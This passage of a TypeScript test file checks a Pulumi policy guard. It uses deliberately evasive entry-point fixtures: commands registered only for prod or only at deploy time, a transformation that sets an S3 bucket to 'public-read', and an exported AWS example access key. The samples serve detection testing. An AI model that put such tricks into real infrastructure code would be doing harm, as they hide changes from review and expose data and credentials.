    expect([...releasedScripts].sort()).to.deep.equal(Object.values(released).sort());
  });

  it("has a counter-example for every rule", () => {
    expect([...new Set(counterExamples.map(([rule]) => rule))].sort()).to.deep.equal(Object.keys(rules).sort());
  });

  it("refuses a policy it cannot read, instead of letting it pass", () => {
    for (const text of [undefined, 7, "{}", "no JSON"]) {
      const rulesOf = violations(withFault("policy", { policy: text })).map(({ rule }) => rule);
      expect(rulesOf, String(text)).to.deep.equal(["input-not-allowed"]);
    }
  });

  for (const environment of ["prod", "nonprod"]) {
    it(`finds nothing in everything that the entry point registers for ${environment}`, async function () {
      this.timeout(300_000);
      const { count, found } = await judged(environment);
      expect(found).to.deep.equal([]);
      expect(count).to.be.greaterThan(200);
    });
  }
});

/** Entry points that hide from a look at `program.ts`, or at one run, what they do. */
const entries: readonly (readonly [what: string, rule: string, text: string])[] = [
  ["registers something itself", "type-not-allowed", "new Command('c', {});"],
  ["does so for one stack alone", "type-not-allowed", "if (pulumi.getStack() === 'prod') new Command('c', {});"],
  ["does so in deployments alone", "type-not-allowed", "if (!pulumi.runtime.isDryRun()) new Command('c', {});"],
  [
    "changes everything on its way",
    "changed-on-the-way",
    "pulumi.runtime.registerResourceTransform(({ props, opts }) => ({ props, opts }));",
  ],
  [
    "raises a limit by a transformation",
    "input-not-allowed",
    `pulumi.runtime.registerStackTransformation(({ props, opts }) => ({ props: { ...props, acl: "public-read" }, opts }));
     new Bucket("b", {});`,
  ],
  ["hands out a credential", "secret-in-plain-text", "export const key = pulumi.output('AKIAIOSFODNN7EXAMPLE');"],
];

describe("the guard at the project's entry point", function () {
  this.timeout(300_000);
  const folder = folderOfEach();
  const project = join(import.meta.dirname, "../..");

  it("finds nothing in a stack with everything that a stack file can say, and an approval", async () => {
    writeEveryInput(folder());
    const { count, found } = await judged("prod", folder());
    expect(found).to.deep.equal([]);
    expect(count).to.be.greaterThan(200);
  });

  for (const [what, rule, text] of entries) {
    it(`sees one that ${what}`, async () => {
      symlinkSync(join(project, "node_modules"), join(folder(), "node_modules"));
      const head = `
        import * as pulumi from "@pulumi/pulumi";
        class Command extends pulumi.CustomResource {
          constructor(name, args) { super("command:local:Command", name, args); }
        }
        class Bucket extends pulumi.CustomResource {
          constructor(name, args) { super("aws:s3/bucket:Bucket", name, args); }
        }
      `;
      writeFileSync(join(folder(), "package.json"), JSON.stringify({ type: "module" }));
      writeFileSync(join(folder(), "index.ts"), `${head}\n${text}\n`);
      const { found } = await judged("prod", folder());
      expect(found.map((each) => each.rule)).to.include(rule);
    });
  }
});
